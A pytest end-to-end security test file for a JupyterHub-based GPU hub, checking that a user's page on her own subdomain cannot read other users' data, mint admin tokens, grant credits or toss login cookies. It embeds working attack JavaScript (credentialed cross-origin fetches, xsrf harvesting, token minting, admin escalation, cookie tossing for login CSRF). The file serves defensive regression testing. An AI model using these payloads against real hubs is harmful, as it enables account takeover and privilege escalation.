"""Issue 38, "A web origin per researcher", played in Chromium with mallory's own files.

A researcher's server runs her code, and a page it serves runs in the browser of
whoever opens it. mallory's own `~/.jupyter/jupyter_server_config.py` loads a server
extension of hers (`~/mallory_page.py`) that serves pages without authentication, as
anyone may. Her attack page tries what a hostile page would, each with
`credentials: "include"`: read the hub's /hub/home (for the visitor's xsrf_token),
/hub/token, /hub/api/user, the visitor's token list, mint a token (without, then with
the X-XSRFToken it harvested, then as a CORS-free simple request), make herself an
admin; read the gpulease service's profiles, usage and balance and POST herself a grant
of credits; read bob's files and kernels on his running server and start a kernel
there; and, with any token it got, grant herself credit. Every outcome goes into the
page (`<pre id="results">`), which the tests read.

- `test_mallorys_page_gets_nothing_from_whoever_opens_it[admin|bob]`: on a hub as
  `gpulease up` serves it by default (servers at USER.localhost, the service at
  gpulease--service.localhost), the logged-in admin, and separately bob (his JupyterLab
  open), open her page by its URL: every fetch fails as the browser's CORS check refuses
  it (TypeError) or comes back opaque, no frame is readable, no token and no xsrf token
  is read, and the hub is as it was (checked through the API: the admin's and bob's
  token lists, mallory's balance, admin flag and roles, the profiles, bob's kernels).
- `test_on_a_domain_of_its_own_mallorys_page_gets_nothing_either[admin|bob]`: the same
  on a hub on https with a domain of its own (gpu.test: a self-signed certificate for it
  and *.gpu.test, Chromium told that every *.gpu.test name is 127.0.0.1). There
  mallory.gpu.test and gpu.test are one *site*, so the browser does send the visitor's
  login cookie with her requests (the hub's log shows them arrive as the visitor, 403):
  the browser's CORS check and the xsrf checks of the hub, the service and bob's server
  are what refuse them.
- `test_on_a_shared_origin_the_same_page_takes_an_admin_token`: the same page on a hub
  whose admin opted out (GPULeaseHub.allow_shared_origin, the only way to get the old
  main's layout now: mallory's server at /user/mallory/ on the hub's own origin). The
  page reads /hub/home with the admin's cookies, takes its xsrf_token, mints an admin
  token, makes mallory an admin and grants her a million credits: the issue as
  reported. So the tests above fail on the old main (every server on the hub's origin:
  the same fetches are same-origin and succeed), and this one documents what the
  opt-out risks.
- `test_cookies_tossed_from_a_users_subdomain_do_not_change_the_hub_session`: on the
  gpu.test hub, mallory's page on mallory.gpu.test sets cookies for the parent domain
  with her own real login cookie's value (copied from her own browser):
  `jupyterhub-hub-login` on gpu.test (the browser keeps it: the test checks),
  `__Host-jupyterhub-hub-login` with a Domain (the browser refuses it),
  `jupyterhub-session-id`. The logged-in admin stays the admin, and a visitor who was
  not logged in is not logged in as mallory, because the hub's login cookie is
  `__Host-` prefixed (no subdomain can set one for the hub).
  `test_without_host_prefixed_cookies_the_toss_logs_the_visitor_in_as_mallory`: the
  same page against the same hub with JupyterHub.cookie_host_prefix_enabled=False logs
  the visitor, and the logged-in admin, in as mallory (login CSRF): the test above fails
  without the prefix.
- `test_on_localhost_a_users_subdomain_cannot_set_cookies_for_the_hub`: on the default
  http://localhost there is no __Host- prefix (it needs https); mallory.localhost
  cannot set a cookie for `localhost` (a browser takes `localhost` as a registry, like
  a public suffix), so the admin stays the admin there too.
- `test_a_listener_mallorys_server_starts_on_a_port_of_the_box_gets_no_visitor`: a
  browser sends localhost's cookies to any port of it. mallory's server config listens on
  another port; the logged-in admin opens http://localhost:PORT/hub/login: in her sandbox
  the port is her server's own network's, the box's is closed, her listener gets nothing.
  `test_without_the_sandbox_that_listener_gets_the_visitors_hub_cookie`: the same with
  GPULeaseHub.server_sandbox = off gives her the admin's login cookie.
- `test_a_page_on_127_0_0_1_is_sent_to_localhost`: a login started at
  http://127.0.0.1:PORT/hub/login lands on http://localhost:PORT (where users'
  servers send their visitors to log in), and /user/NAME/lab on 127.0.0.1 opens
  JupyterLab at NAME.localhost. On the old main the page stayed on 127.0.0.1.
"""

from __future__ import annotations

import json
import os
import re
import socket
from contextlib import contextmanager
from pathlib import Path
from urllib.parse import urlsplit

import pytest
import requests

from tests.support.browser import LAB_TIMEOUT_MS, launch_another, new_context, wait_for_jupyterlab
from tests.support.certificates import self_signed
from tests.support.hubproc import HubProcess

pytestmark = pytest.mark.e2e

ADMIN_PW = "admin-secret-pw"
GRANT = "1000000"  # what mallory's page grants her, in credits
DOMAIN = "gpu.test"  # the https hub's own domain (RFC 6761: never a real one)

# --- mallory's own files ---------------------------------------------------------------------------

# ~/mallory_page.py: a server extension of hers serving ~/mallory-NAME.html at
# <her server>/mallory/NAME, without authentication (a plain tornado handler).
EXTENSION = '''
import os

from jupyter_server.utils import url_path_join
from tornado import web


class Page(web.RequestHandler):
    def get(self, name):
        path = os.path.expanduser(f"~/mallory-{name}.html")
        if not os.path.exists(path):
            raise web.HTTPError(404)
        self.set_header("Content-Type", "text/html; charset=utf-8")
        self.set_header("Cache-Control", "no-store")
        with open(path) as f:
            self.finish(f.read())


def _jupyter_server_extension_points():
    return [{"module": "mallory_page"}]


def _load_jupyter_server_extension(serverapp):
    route = url_path_join(serverapp.base_url, "mallory", "([a-z]+)")
    serverapp.web_app.add_handlers(".*$", [(route, Page)])
'''

# ~/.jupyter/jupyter_server_config.py: her config, which loads it.
SERVER_CONFIG = '''
import os, sys
sys.path.insert(0, os.path.expanduser("~"))
c.ServerApp.jpserver_extensions.update({"mallory_page": True})
'''

# The attack page's script. T: {hub, service, bob, attacker, victims}, URLs as the hub
# publishes them (each ending in /).
ATTACK_JS = r'''
const results = [];
const tokens = [];
let xsrf = "";
const TIMEOUT = 15000;

function note(r) { results.push(r); return r; }

async function attempt(name, url, init) {
  init = init || {};
  const r = {name, url, method: init.method || "GET", mode: init.mode || "cors"};
  try {
    const resp = await fetch(url, Object.assign(
      {credentials: "include", signal: AbortSignal.timeout(TIMEOUT)}, init));
    r.type = resp.type;
    r.status = resp.status;
    if (resp.type === "opaque" || resp.type === "opaqueredirect") {
      r.outcome = "opaque";
      return note(r);
    }
    const text = await resp.text();
    r.outcome = "read";
    r.body = text.slice(0, 300);
    const m = text.match(/xsrf_token:\s*"([^"]+)"/);
    if (m) { r.xsrf = m[1]; xsrf = xsrf || m[1]; }
    try {
      const j = JSON.parse(text);
      if (resp.ok && j && typeof j.token === "string") { r.token = j.token; tokens.push(j.token); }
    } catch (e) { /* not JSON */ }
  } catch (e) {
    r.outcome = "error";
    r.error = String(e);
  }
  return note(r);
}

// A page in a hidden frame: its document, cookies and jhdata, if the browser lets us.
function frame(name, url) {
  return new Promise(resolve => {
    const r = {name, url, method: "GET", mode: "iframe"};
    const f = document.createElement("iframe");
    f.style.display = "none";
    let done = false;
    const finish = () => { if (!done) { done = true; resolve(note(r)); } };
    f.onload = () => {
      try {
        const d = f.contentDocument;  // null (or a throw) across origins
        r.cookie = d.cookie;
        r.title = d.title;
        r.outcome = "read";
        const jh = f.contentWindow.jhdata;
        if (jh && jh.xsrf_token) { r.xsrf = jh.xsrf_token; xsrf = xsrf || jh.xsrf_token; }
        const m = (d.cookie || "").match(/(?:^|; )_xsrf=([^;]+)/);
        if (m) r.xsrf_cookie = m[1];
      } catch (e) {
        r.outcome = "error";
        r.error = String(e);
      }
      finish();
    };
    setTimeout(() => { r.outcome = r.outcome || "timeout"; finish(); }, TIMEOUT);
    f.src = url;
    document.body.appendChild(f);
  });
}

const asJson = (body, headers, method) => ({
  method: method || "POST", body: JSON.stringify(body),
  headers: Object.assign({"Content-Type": "application/json"}, headers || {})});
// a "simple" request: no preflight, so it is sent with the cookies whatever CORS says
const simple = (body) => ({method: "POST", mode: "no-cors", body: JSON.stringify(body),
                           headers: {"Content-Type": "text/plain"}});
const withXsrf = (h) => Object.assign(xsrf ? {"X-XSRFToken": xsrf} : {}, h || {});

async function main() {
  // the hub: its pages carry the visitor's xsrf_token
  await attempt("hub home", T.hub + "home");
  await frame("hub home in a frame", T.hub + "home");
  await attempt("hub token page", T.hub + "token");
  await attempt("who is visiting", T.hub + "api/user", {headers: withXsrf()});
  for (const victim of T.victims) {
    const url = T.hub + "api/users/" + victim + "/tokens";
    await attempt("tokens of " + victim, url, {headers: withXsrf()});
    await attempt("a token for " + victim + " without xsrf", url, asJson({note: "mallory"}));
    await attempt("a token for " + victim + " with xsrf", url,
                  asJson({note: "mallory"}, {"X-XSRFToken": xsrf || "none-obtained"}));
    await attempt("a token for " + victim + " as a simple request", url,
                  simple({note: "mallory"}));
  }
  const me = T.hub + "api/users/" + T.attacker;
  await attempt("make mallory an admin", me, asJson({admin: true}, withXsrf(), "PATCH"));
  // the gpulease service
  const grant = {account: "user:" + T.attacker, amount: T.grant, note: "thanks"};
  await attempt("service profiles", T.service + "api/profiles");
  await attempt("service usage", T.service + "api/usage");
  await attempt("service balance", T.service + "api/balance");
  await attempt("grant credits", T.service + "api/credits", asJson(grant, withXsrf()));
  await attempt("grant credits as a simple request", T.service + "api/credits", simple(grant));
  // bob's server
  await attempt("bob's files", T.bob + "api/contents");
  await attempt("bob's kernels", T.bob + "api/kernels");
  const bob = await frame("bob's server in a frame", T.bob + "api/status");
  const bobXsrf = bob.xsrf_cookie ? {"X-XSRFToken": bob.xsrf_cookie} : {};
  await attempt("a kernel on bob's server", T.bob + "api/kernels",
                asJson({name: "python3"}, bobXsrf));
  await attempt("a kernel on bob's server as a simple request", T.bob + "api/kernels",
                simple({name: "python3"}));
  // whatever token the page got, used
  for (const t of tokens.slice()) {
    const auth = {Authorization: "token " + t};
    await attempt("grant credits with a taken token", T.service + "api/credits",
                  asJson(grant, auth));
    await attempt("make mallory an admin with a taken token", me,
                  asJson({admin: true}, auth, "PATCH"));
  }
}

main().catch(e => note({name: "the page itself", outcome: "crashed", error: String(e)}))
  .finally(() => {
    const pre = document.getElementById("results");
    pre.textContent = JSON.stringify({results, tokens, xsrf});
    pre.dataset.done = "1";
  });
'''

# The cookie-tossing page's script. T: {domain, value (mallory's own login cookie)}.
TOSS_JS = r'''
const tossed = [
  `jupyterhub-hub-login=${T.value}; Domain=${T.domain}; Path=/hub/; Secure`,
  `jupyterhub-hub-login=${T.value}; Domain=${T.domain}; Path=/; Secure`,
  `__Host-jupyterhub-hub-login=${T.value}; Domain=${T.domain}; Path=/; Secure`,
  `__Host-jupyterhub-hub-login=${T.value}; Path=/; Secure`,
  `jupyterhub-session-id=mallory-session; Domain=${T.domain}; Path=/; Secure`,
  `jupyterhub-session-id=mallory-session; Domain=${T.domain}; Path=/hub/; Secure`,
  `__Host-jupyterhub-session-id=mallory-session; Domain=${T.domain}; Path=/; Secure`,
];
for (const cookie of tossed) document.cookie = cookie;
const pre = document.getElementById("results");
pre.textContent = JSON.stringify({tossed, seen: document.cookie});
pre.dataset.done = "1";
'''


def page_html(script: str, targets: dict) -> str:
    return ("<!doctype html><html><head><title>mallory's plots</title></head><body>"
            "<h1>Some nice plots</h1><pre id=\"results\"></pre>"
            f"<script>const T = {json.dumps(targets)};\n{script}</script></body></html>")


def _write_owned(path: Path, text: str, owner: os.stat_result) -> None:
    """A file of mallory's: owned like her home (her Unix account when the hub runs as root)."""
    path.write_text(text)
    os.chown(path, owner.st_uid, owner.st_gid)


def plant_mallorys_files(hub: HubProcess, name: str = "mallory") -> Path:
    """Her extension and the config that loads it, in her home, before her server starts."""
    home = hub.state / "homes" / name
    owner = home.stat()
    (home / ".jupyter").mkdir(exist_ok=True)
    os.chown(home / ".jupyter", owner.st_uid, owner.st_gid)
    _write_owned(home / ".jupyter" / "jupyter_server_config.py", SERVER_CONFIG, owner)
    _write_owned(home / "mallory_page.py", EXTENSION, owner)
    return home


def put_page(hub: HubProcess, page: str, html: str, name: str = "mallory") -> str:
    """Her page `page` (served from then on); its URL."""
    home = hub.state / "homes" / name
    _write_owned(home / f"mallory-{page}.html", html, home.stat())
    return hub.server_url(name, "", f"mallory/{page}")


def start_server(hub: HubProcess, name: str, token: str) -> None:
    r = hub.api("POST", f"users/{name}/server", token, {"user_options": {"profile": "cpu"}})
    assert r.status_code in (201, 202), r.text
    hub.wait_server_ready(name, token)


def attack_targets(hub: HubProcess) -> dict:
    return {"hub": hub.urls.hub(), "service": hub.urls.service(),
            "bob": hub.server_url("bob"), "attacker": "mallory",
            "victims": ["admin", "bob"], "grant": GRANT}


def log_in(page, hub_origin: str, user: str, password: str) -> None:
    page.goto(f"{hub_origin}/hub/login")
    page.fill("#username_input", user)
    page.fill("#password_input", password)
    page.click("#login_submit")
    # the home page, the spawn page, or (a server running) JupyterLab, where the hub sends
    # a user whose server runs
    page.locator("tr.gpulease-server, form#spawn_form, #jp-main-dock-panel").first.wait_for(
        timeout=LAB_TIMEOUT_MS)


def open_and_read(page, url: str) -> dict:
    """Open mallory's page as a visitor does (by its URL) and read what it reported."""
    response = page.goto(url)
    assert response is not None and response.status == 200, (url, response and response.status)
    page.wait_for_function("document.getElementById('results').dataset.done === '1'",
                           timeout=180_000)
    return json.loads(page.locator("#results").text_content())


def who_is_logged_in(page, hub_origin: str) -> str | None:
    """The user the hub's pages show this browser as: /hub/home's own `jhdata.user`
    (None: the hub sent it to the login page)."""
    response = page.goto(f"{hub_origin}/hub/home")
    assert response is not None and response.status == 200, response and response.status
    return page.evaluate("window.jhdata.user || null")


def credits(text: str) -> int:
    whole, _, frac = text.lstrip("-").partition(".")
    value = int(whole) * 1_000_000 + int((frac + "000000")[:6])
    return -value if text.startswith("-") else value


def hub_state(hub: HubProcess, bob_token: str | None) -> dict:
    """What mallory's page must not change, read through the API."""
    def token_ids(user: str) -> list[str]:
        r = hub.api("GET", f"users/{user}/tokens", hub.admin)
        assert r.status_code == 200, r.text
        return sorted(t["id"] for t in r.json()["api_tokens"])

    mallory = hub.api("GET", "users/mallory", hub.admin).json()
    balance = hub.service("GET", "api/balance", hub.mallory)
    assert balance.status_code == 200, balance.text
    profiles = hub.service("GET", "api/profiles", hub.admin)
    assert profiles.status_code == 200, profiles.text
    state = {
        "admin's tokens": token_ids("admin"),
        "mallory": {key: mallory.get(key) for key in ("admin", "roles", "groups")},
        "mallory's balance": credits(balance.json()["balance"]),
        "profiles": profiles.json(),
    }
    if bob_token:
        kernels = requests.get(hub.server_url("bob", "", "api/kernels"), timeout=30,
                               headers={"Authorization": f"token {bob_token}"})
        assert kernels.status_code == 200, kernels.text
        state["bob's tokens"] = token_ids("bob")
        state["bob's kernels"] = sorted(k["id"] for k in kernels.json())
    return state


def assert_unchanged(before: dict, after: dict) -> None:
    """Tokens, roles, profiles and kernels are as they were; mallory's balance has not
    risen. It may fall meanwhile: her own server is running and billed, and a heartbeat can
    settle its charge between the two readings. A grant would add GRANT credits."""
    before, after = dict(before), dict(after)
    was, now = before.pop("mallory's balance"), after.pop("mallory's balance")
    assert now <= was, f"mallory's balance rose from {was} to {now} micro-credits"
    assert after == before


def assert_nothing_read(report: dict) -> None:
    """Every fetch failed (CORS: TypeError) or came back opaque; no token, no xsrf token."""
    results = report["results"]
    assert results and not [r for r in results if r["outcome"] == "crashed"], results
    read = [f"{r['name']}: {r.get('status')} {r.get('body', '')[:120]!r}"
            for r in results if r["outcome"] == "read"]
    assert not read, f"mallory's page read answers on another origin: {read}"
    taken = [r["name"] for r in results if r.get("token")]
    assert not report["tokens"] and not taken, (report["tokens"], taken)
    assert not report["xsrf"], f"the page got the visitor's xsrf token: {report['xsrf']}"
    # each kind of attempt was made: cross-origin fetches fail with the browser's
    # TypeError, simple requests come back opaque, frames are not readable
    assert {r["outcome"] for r in results if r["mode"] == "cors"} == {"error"}, results
    assert {r["outcome"] for r in results if r["mode"] == "no-cors"} == {"opaque"}, results
    assert {r["outcome"] for r in results if r["mode"] == "iframe"} <= {"error", "timeout"}
    assert all("TypeError" in r["error"] for r in results if r["mode"] == "cors"), results


# --- the hub as served by default: servers and the service on subdomains of localhost ---------------


def _start_users(h: HubProcess, servers: tuple[str, ...]) -> None:
    """The admin's token, mallory (her files planted) and bob, their servers running."""
    h.admin = h.token_for("admin", ADMIN_PW)
    h.mallory = h.add_user(h.admin, "mallory")
    h.bob = h.add_user(h.admin, "bob")
    plant_mallorys_files(h)
    for name in servers:
        start_server(h, name, getattr(h, name))
    h.attack_url = put_page(h, "attack", page_html(ATTACK_JS, attack_targets(h)))


@pytest.fixture(scope="module")
def hub(tmp_path_factory):
    """mallory's server (with her page) and bob's, both running."""
    base = tmp_path_factory.mktemp("browser_origins")
    h = HubProcess(state=base / "state", admin_password=ADMIN_PW).start()
    try:
        _start_users(h, ("mallory", "bob"))
        assert urlsplit(h.attack_url).hostname == "mallory.localhost", h.attack_url
        yield h
    finally:
        h.close()


def _a_visitor_who_used_the_site(page, hub: HubProcess, visitor: str) -> None:
    """`visitor` logged in, on the hub's home page, the service's usage page and (bob) his
    own JupyterLab: the hub's xsrf cookie and every login cookie are in this browser."""
    origin = hub.urls.hub().removesuffix("/hub/")
    log_in(page, origin, visitor, ADMIN_PW if visitor == "admin" else f"{visitor}-pw-12345")
    assert who_is_logged_in(page, origin) == visitor
    response = page.goto(hub.urls.service("usage"))
    assert response.status == 200 and page.url.startswith(hub.urls.service("usage")), page.url
    if visitor == "bob":
        page.goto(hub.server_url("bob", "", "lab"))
        wait_for_jupyterlab(page)


def _visit_and_check(hub: HubProcess, page, visitor: str, same_site: bool) -> None:
    """`visitor` opens mallory's page: it reads nothing, takes nothing, changes nothing.
    `same_site`: her server and the hub are one site (gpu.test), so the browser sends the
    visitor's cookies with her requests; checked in the hub's log, where they arrive as
    the visitor and are refused."""
    _a_visitor_who_used_the_site(page, hub, visitor)
    before = hub_state(hub, hub.bob)
    log_from = len(hub.log())

    report = open_and_read(page, hub.attack_url)

    if same_site:
        # the hub's log shows her requests arrived as the visitor (their login cookie
        # sent) and were refused: "403 GET /hub/api/users/admin/tokens (admin@...)"
        log = hub.log()[log_from:]
        refused = re.findall(rf"403 (?:GET|POST) /hub/api/users/{visitor}/tokens \((\w*)@", log)
        assert visitor in refused, refused
    # On the old main (mallory's server at /user/mallory/ on the hub's origin) these
    # fetches are same-origin: /hub/home is read, its xsrf_token taken, a token minted
    # (test_on_a_shared_origin_the_same_page_takes_an_admin_token shows it).
    assert_nothing_read(report)
    assert_unchanged(before, hub_state(hub, hub.bob))
    bob_tries = [r for r in report["results"] if r["url"].startswith(hub.server_url("bob"))]
    assert len(bob_tries) == 5, bob_tries  # files, kernels, a frame, two kernel starts
    # and the visitor is still logged in as who they were
    assert who_is_logged_in(page, hub.urls.hub().removesuffix("/hub/")) == visitor


@pytest.mark.parametrize("visitor", ["admin", "bob"])
def test_mallorys_page_gets_nothing_from_whoever_opens_it(hub, chromium, request, visitor):
    _visit_and_check(hub, new_context(chromium, request).new_page(), visitor, same_site=False)


def test_on_localhost_a_users_subdomain_cannot_set_cookies_for_the_hub(hub, chromium, request):
    """http has no __Host- prefix; what keeps mallory.localhost from tossing cookies onto
    localhost is that a browser takes `localhost` as a registry (a public suffix)."""
    mallory = new_context(chromium, request).new_page()
    log_in(mallory, hub.url, "mallory", "mallory-pw-12345")
    value = next(c["value"] for c in mallory.context.cookies(f"{hub.url}/hub/")
                 if c["name"] == "jupyterhub-hub-login")
    url = put_page(hub, "toss", page_html(TOSS_JS, {"domain": "localhost", "value": value}))

    page = new_context(chromium, request).new_page()
    log_in(page, hub.url, "admin", ADMIN_PW)
    open_and_read(page, url)

    tossed = [c for c in page.context.cookies() if c["domain"].lstrip(".") == "localhost"
              and c["value"] in (value, "mallory-session")]
    assert not tossed, tossed
    assert who_is_logged_in(page, hub.url) == "admin"


def test_a_page_on_127_0_0_1_is_sent_to_localhost(hub, chromium, request):
    """On the old main the login page stayed on 127.0.0.1 (no redirect): the first
    assertion fails there."""
    context = new_context(chromium, request)
    page = context.new_page()
    page.goto(f"http://127.0.0.1:{hub.port}/hub/login?next=%2Fhub%2Fhome")
    # redirected, path and query kept, before anything is rendered on 127.0.0.1
    assert page.url == f"http://localhost:{hub.port}/hub/login?next=%2Fhub%2Fhome", page.url
    page.fill("#username_input", "bob")
    page.fill("#password_input", "bob-pw-12345")
    page.click("#login_submit")
    page.locator("tr.gpulease-server").first.wait_for()  # his home page, as `next` says
    assert page.url == f"http://localhost:{hub.port}/hub/home", page.url
    # logged in on localhost, where his server sends its visitors to log in
    assert [c["domain"] for c in context.cookies() if c["name"] == "jupyterhub-hub-login"] \
        == ["localhost"]
    assert who_is_logged_in(page, f"http://127.0.0.1:{hub.port}") == "bob"
    assert urlsplit(page.url).netloc == f"localhost:{hub.port}", page.url
    # his server's address on 127.0.0.1 ends in JupyterLab on his own origin, signed in
    # through the hub with the login he has
    page.goto(f"http://127.0.0.1:{hub.port}/user/bob/lab")
    wait_for_jupyterlab(page)
    assert page.url.startswith(hub.server_url("bob", "", "lab")), page.url
    assert urlsplit(page.url).hostname == "bob.localhost", page.url
    context.http_errors.check()


# --- the opt-out: every server on the hub's origin, as on the old main -------------------------------


def test_on_a_shared_origin_the_same_page_takes_an_admin_token(tmp_path, chromium, request):
    """The issue as reported, on a hub whose admin set GPULeaseHub.allow_shared_origin:
    what the tests above show cannot happen by default."""
    h = HubProcess(state=tmp_path / "state", admin_password=ADMIN_PW,
                   extra_args=["--GPULeaseHub.allow_shared_origin=True"]).start()
    try:
        assert h.urls.subdomain_host == ""
        _start_users(h, ("mallory",))
        hub_origin = h.urls.hub().removesuffix("/hub/")
        assert h.attack_url.startswith(f"{hub_origin}/user/mallory/"), h.attack_url
        page = new_context(chromium, request).new_page()
        log_in(page, hub_origin, "admin", ADMIN_PW)
        page.goto(f"{hub_origin}/hub/home")
        before = hub_state(h, None)

        report = open_and_read(page, h.attack_url)

        named = {r["name"]: r for r in report["results"]}
        assert named["hub home"]["outcome"] == "read" and report["xsrf"], named["hub home"]
        assert named["a token for admin with xsrf"]["status"] == 201, named
        assert report["tokens"], report
        after = hub_state(h, None)
        assert after["mallory's balance"] - before["mallory's balance"] >= credits(GRANT)
        assert after["mallory"]["admin"] is True
        assert len(after["admin's tokens"]) > len(before["admin's tokens"])
    finally:
        h.close()


# --- a hub with a domain of its own, on https: gpu.test -----------------------------------------------


@pytest.fixture(scope="module")
def gpu_test(tmp_path_factory):
    """gpu.test's certificate (key beside it), and, for this module, this process
    resolving gpu.test and its subdomains to 127.0.0.1 as Chromium's
    --host-resolver-rules does for the browser (the harness reaches the service at
    gpulease--service.gpu.test), and checking https with that certificate."""
    # for gpu.test, *.gpu.test and localhost (the tests' own API calls go to
    # https://localhost:PORT)
    cert, key = self_signed(tmp_path_factory.mktemp("gpu_test"), DOMAIN,
                            [DOMAIN, f"*.{DOMAIN}", "localhost"])
    real = socket.getaddrinfo

    def getaddrinfo(host, *args, **kwargs):
        if isinstance(host, str) and (host == DOMAIN or host.endswith(f".{DOMAIN}")):
            host = "127.0.0.1"
        return real(host, *args, **kwargs)

    patch = pytest.MonkeyPatch()
    patch.setattr(socket, "getaddrinfo", getaddrinfo)
    patch.setenv("REQUESTS_CA_BUNDLE", str(cert))  # hub.api, token_for: https://localhost
    try:
        yield cert, key
    finally:
        patch.undo()


@contextmanager
def _https_hub(gpu_test, state: Path, servers: tuple[str, ...], *extra_args: str):
    """A hub at https://gpu.test:PORT, mallory's and bob's accounts, `servers` running."""
    cert, key = gpu_test
    h = HubProcess(state=state, admin_password=ADMIN_PW, extra_args=[
        f"--ssl-cert={cert}", f"--ssl-key={key}", f"--subdomain-host=https://{DOMAIN}:{{port}}",
        *extra_args])
    h.scheme = "https"
    h.start()
    try:
        assert h.urls.hub() == f"https://{DOMAIN}:{h.port}/hub/", h.urls
        _start_users(h, servers)
        yield h
    finally:
        h.close()


@pytest.fixture(scope="module")
def gpu_test_hub(gpu_test, tmp_path_factory):
    with _https_hub(gpu_test, tmp_path_factory.mktemp("gpu_test_hub") / "state",
                    ("mallory", "bob")) as h:
        assert urlsplit(h.attack_url).hostname == f"mallory.{DOMAIN}", h.attack_url
        yield h


@pytest.fixture(scope="module")
def gpu_test_browser(chromium):
    browser = launch_another(
        chromium, f"--host-resolver-rules=MAP {DOMAIN} 127.0.0.1, MAP *.{DOMAIN} 127.0.0.1")
    yield browser
    browser.close()


@pytest.mark.parametrize("visitor", ["admin", "bob"])
def test_on_a_domain_of_its_own_mallorys_page_gets_nothing_either(
        gpu_test_hub, gpu_test_browser, request, visitor):
    """The layout of a real install: mallory.gpu.test and the hub's gpu.test are one site,
    so the browser sends the visitor's cookies with her page's simple (no-cors) POSTs; the
    hub's, the service's and bob's server's xsrf checks refuse them (opaque answers, and
    nothing changed on the hub)."""
    page = new_context(gpu_test_browser, request, ignore_https_errors=True).new_page()
    _visit_and_check(gpu_test_hub, page, visitor, same_site=True)


def _toss_from_mallorys_page(h: HubProcess, browser, request) -> tuple[str, str, str]:
    """mallory logs in in her own browser and puts her login cookie's value in her tossing
    page; (the hub's origin, the page's URL, her login cookie's name)."""
    origin = f"https://{DOMAIN}:{h.port}"
    mallory = new_context(browser, request, ignore_https_errors=True).new_page()
    log_in(mallory, origin, "mallory", "mallory-pw-12345")
    login = [c for c in mallory.context.cookies(f"{origin}/hub/")
             if c["name"].endswith("jupyterhub-hub-login")]
    assert len(login) == 1, login
    url = put_page(h, "toss", page_html(TOSS_JS, {"domain": DOMAIN, "value": login[0]["value"]}))
    assert urlsplit(url).hostname == f"mallory.{DOMAIN}", url
    return origin, url, login[0]["name"]


def test_cookies_tossed_from_a_users_subdomain_do_not_change_the_hub_session(
        gpu_test_hub, gpu_test_browser, request):
    h = gpu_test_hub
    origin, url, name = _toss_from_mallorys_page(h, gpu_test_browser, request)
    assert name == "__Host-jupyterhub-hub-login"

    # the logged-in admin opens her page
    admin = new_context(gpu_test_browser, request, ignore_https_errors=True).new_page()
    log_in(admin, origin, "admin", ADMIN_PW)
    assert who_is_logged_in(admin, origin) == "admin"
    open_and_read(admin, url)
    sent_to_hub = admin.context.cookies(f"{origin}/hub/home")
    # the toss happened: the browser sends the hub her cookie under the unprefixed name...
    assert any(c["name"] == "jupyterhub-hub-login" and c["domain"] == f".{DOMAIN}"
               for c in sent_to_hub), sent_to_hub
    # ...but no __Host- cookie of hers: with a Domain it is refused, without one it stays
    # on mallory.gpu.test
    assert [c["domain"] for c in sent_to_hub if c["name"] == name] == [DOMAIN], sent_to_hub
    assert who_is_logged_in(admin, origin) == "admin"
    r = admin.evaluate("""async () => (await fetch('/hub/api/user', {headers:
        {'X-XSRFToken': window.jhdata.xsrf_token}})).json()""")
    assert r["name"] == "admin", r

    # a visitor who was not logged in opens it, then the hub
    visitor = new_context(gpu_test_browser, request, ignore_https_errors=True).new_page()
    open_and_read(visitor, url)
    assert who_is_logged_in(visitor, origin) is None
    assert urlsplit(visitor.url).path == "/hub/login", visitor.url
    visitor.locator("#username_input").wait_for()


def test_without_host_prefixed_cookies_the_toss_logs_the_visitor_in_as_mallory(
        gpu_test, gpu_test_browser, tmp_path, request):
    """The control: the same toss against the same hub without the __Host- prefix is a
    login CSRF (a visitor who was not logged in, and the logged-in admin, both end up as
    mallory on the hub), so the test above fails without the prefix."""
    with _https_hub(gpu_test, tmp_path / "state", ("mallory",),
                    "--JupyterHub.cookie_host_prefix_enabled=False") as h:
        origin, url, name = _toss_from_mallorys_page(h, gpu_test_browser, request)
        assert name == "jupyterhub-hub-login"
        visitor = new_context(gpu_test_browser, request, ignore_https_errors=True).new_page()
        open_and_read(visitor, url)
        assert who_is_logged_in(visitor, origin) == "mallory"
        admin = new_context(gpu_test_browser, request, ignore_https_errors=True).new_page()
        log_in(admin, origin, "admin", ADMIN_PW)
        assert who_is_logged_in(admin, origin) == "admin"
        open_and_read(admin, url)
        # both login cookies are sent, hers last (same path, set later), and the hub reads
        # the last one of a name: the admin now browses the hub as mallory
        assert who_is_logged_in(admin, origin) == "mallory"


SERVICE_TOSS_JS = r"""
document.cookie = `${T.name}=${T.value}; Domain=${T.domain}; Path=/services/gpulease/; Secure`;
const pre = document.getElementById("results");
pre.textContent = JSON.stringify({seen: document.cookie});
pre.dataset.done = "1";
"""


def test_the_services_login_cookie_cannot_be_tossed_either(gpu_test_hub, gpu_test_browser,
                                                           request):
    """The gpulease service's own login cookie is __Host- prefixed too (JupyterHub tells
    only spawners; hub_config tells the service): mallory's page tosses hers for the
    parent domain, and the admin's usage and admin pages stay the admin's (without the
    prefix they became mallory's, and the admin's Credits page a 403)."""
    h = gpu_test_hub
    origin = f"https://{DOMAIN}:{h.port}"
    usage = h.urls.service("usage")
    mallory = new_context(gpu_test_browser, request, ignore_https_errors=True).new_page()
    log_in(mallory, origin, "mallory", "mallory-pw-12345")
    mallory.goto(usage)
    assert mallory.title() == "gpulease: usage of mallory"
    (login,) = [c for c in mallory.context.cookies(usage) if c["name"].endswith("-gpulease")]
    assert login["name"].startswith("__Host-"), login
    url = put_page(h, "servicetoss", page_html(SERVICE_TOSS_JS, {
        "domain": DOMAIN, "name": login["name"].removeprefix("__Host-"),
        "value": login["value"]}))

    admin = new_context(gpu_test_browser, request, ignore_https_errors=True).new_page()
    log_in(admin, origin, "admin", ADMIN_PW)
    admin.goto(usage)
    assert admin.title() == "gpulease: usage of admin"
    open_and_read(admin, url)
    # the toss happened (an unprefixed cookie for the parent domain)...
    tossed = [c for c in admin.context.cookies(usage)
              if c["name"] == login["name"].removeprefix("__Host-")]
    assert [c["domain"] for c in tossed] == [f".{DOMAIN}"], tossed
    # ...and changed nothing: the service still knows the admin by the prefixed one
    admin.goto(usage)
    assert admin.title() == "gpulease: usage of admin"
    response = admin.goto(h.urls.service("admin/credits"))
    assert response is not None and response.status == 200, response and response.status

    # a visitor who was not logged in is not logged in to the service as mallory
    visitor = new_context(gpu_test_browser, request, ignore_https_errors=True).new_page()
    open_and_read(visitor, url)
    visitor.goto(usage)
    assert "mallory" not in visitor.title()
    assert urlsplit(visitor.url).path == "/hub/login", visitor.url


# --- another port of the box: mallory's own listener, where cookies are not port-scoped -----------

# Added to her ~/.jupyter/jupyter_server_config.py: a listener on every address, on a port
# of the box, that writes down each request it gets (cookies included) in her home.
PORT_LISTENER = '''
